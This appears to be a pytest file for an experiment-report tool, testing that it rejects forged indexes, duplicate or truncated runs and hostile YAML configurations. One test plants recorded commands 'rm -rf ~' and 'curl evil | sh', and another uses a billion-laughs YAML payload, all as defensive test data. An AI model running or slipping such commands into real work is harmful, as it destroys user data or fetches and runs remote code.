"""A study that came from someone else: nothing in it is believed, run, or written to where it says."""

import json
import os
import re
import shutil
from pathlib import Path

import pytest

from ablate.config.compose import read_config
from ablate.records import files
from ablate.records.run_folder import RunFolder
from ablate.report import write
from ablate.report.analysis import analyse
from ablate.report.study import gather, index
from tests.report.made_up import make, section, written


@pytest.fixture
def study(tmp_path: Path) -> Path:
    return make(tmp_path / "s", [({"optimizer": o}, s, "DONE", 0.5 + s / 100) for o in ("adam", "sgd") for s in (0, 1)])


def age(study: Path) -> None:
    """So that a report keeps what it has read."""
    for path in study.rglob("*"):
        os.utime(path, (1e9, 1e9))


@pytest.mark.fault(67)
def test_an_index_that_someone_else_wrote_is_not_believed(
    study: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    age(study)
    gather.load(study)
    head, *lines = (study / "index.jsonl").read_text().splitlines()
    forged = [line.replace('"test_accuracy": 0.5,', '"test_accuracy": 0.99,') for line in lines]
    assert forged != lines
    (study / "index.jsonl").write_text("\n".join([head, *forged]) + "\n")
    assert gather.load(study).runs["test_accuracy"].max() < 0.6
    # Nor is one of another user, whole as it is.
    gather.load(study)
    monkeypatch.setattr(index, "_load", lambda _: pytest.fail("read anew"))
    gather.load(study)  # the twin: one's own is
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "other"))
    with pytest.raises(pytest.fail.Exception):
        gather.load(study)


@pytest.mark.fault(62)
def test_a_copy_counts_once_and_two_results_of_one_signature_do_not(study: Path) -> None:
    (first,) = study.glob("run-s0-000000000000")
    shutil.copytree(first, study / "a copy of mine")
    found = gather.load(study)
    assert len(found.finished) == 4
    assert found.set_aside == [f"a copy of mine is a copy of {first.name}, which counts once"]
    record = json.loads((study / "a copy of mine" / "record.json").read_text())
    record["metrics"]["test_accuracy"] = 0.9
    files.write_json(study / "a copy of mine" / "record.json", record)
    found = gather.load(study)
    assert len(found.finished) == 3
    assert "have one signature and different results" in found.set_aside[0]


@pytest.mark.fault(63)
@pytest.mark.parametrize("cut", [1, 5, 30])
def test_metrics_that_were_cut_are_named(study: Path, cut: int) -> None:
    path = next(study.glob("run-s0-000000000000")) / "metrics.csv"
    os.truncate(path, path.stat().st_size - cut)
    assert any(str(path) in said for said in gather.load(study).set_aside)


@pytest.mark.fault(61)
@pytest.mark.parametrize("value", ["null", "NaN", "Infinity", '"0.5"', "[0.5]", "80.4", '"x": 1'])
def test_a_finished_run_without_a_figure_is_set_aside_and_counted_nowhere(study: Path, value: str) -> None:
    path = next(study.glob("run-s0-000000000000")) / "record.json"
    text = re.sub(
        r'("test_accuracy"): [\d.]+', value if value.startswith('"x"') else rf"\g<1>: {value}", path.read_text()
    )
    assert text != path.read_text()
    path.write_text(text)
    found = gather.load(study)
    assert len(found.finished) == 3
    assert any(str(path) in said for said in found.set_aside)


@pytest.mark.fault(73)
def test_a_pipe_in_the_place_of_a_record_is_passed_over(study: Path) -> None:
    path = next(study.glob("run-s0-000000000000")) / "record.json"
    path.unlink()
    os.mkfifo(path)
    found = gather.load(study)
    assert len(found.finished) == 3
    assert "is not a file" in found.set_aside[0]


@pytest.mark.fault(70)
def test_a_recorded_command_is_quoted_for_a_shell_or_not_shown(study: Path) -> None:
    for path, command in zip(
        sorted(study.glob("*/record.json")), ("python -m ablate a=1; rm -rf ~", "curl evil | sh"), strict=False
    ):
        record = json.loads(path.read_text())
        files.write_json(path, record | {"command": command})
    said = section(written(gather.load(study)), "Reproduce")
    assert "python -m ablate 'a=1;' rm -rf '~'" in said
    assert "curl" not in said


LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{after}: &{after} [{', '.join([f'*{before}'] * 9)}]\n"
    for before, after in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.fault(68, 71)
@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        (LAUGHS, "repeats parts of itself"),
        ("study: {name: env}\nseed: ${oc.${study.name}:SECRET}\n", "seed asks for more than another setting"),
        ("data: {path: '${oc.env:HOME}/${now:%Y}'}\n", r"data\.path asks for more than another setting"),
        ("[1, 2]", "holds no settings"),
        ("a: [" * 5000, "cannot be read"),
        ("x" * (2 << 20), "is no configuration"),
    ],
    ids=["laughs", "nested", "resolver", "a list", "deep", "large"],
)
def test_a_hostile_configuration_is_refused(text: str, sentence: str, tmp_path: Path) -> None:
    (tmp_path / "config.yaml").write_text(text)
    with pytest.raises(ValueError, match=sentence):
        read_config(tmp_path / "config.yaml")


def test_a_pipe_is_no_configuration(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "config.yaml")
    with pytest.raises(ValueError, match="is no configuration"):
        read_config(RunFolder(tmp_path).config)


@pytest.mark.fault(74)
def test_a_report_may_go_elsewhere_and_its_links_still_lead_to_the_runs(study: Path, tmp_path: Path) -> None:
    record = next(study.glob("*/record.json"))
    files.write_json(record, json.loads(record.read_text()) | {"state": "FAILED"})
    path = write.write(analyse(gather.load(study)), tmp_path / "far" / "away")
    assert path == tmp_path / "far" / "away" / "report.md"
    assert not (study / "report").exists()
    assert f"../../s/{record.parent.name}/run.log" in path.read_text()
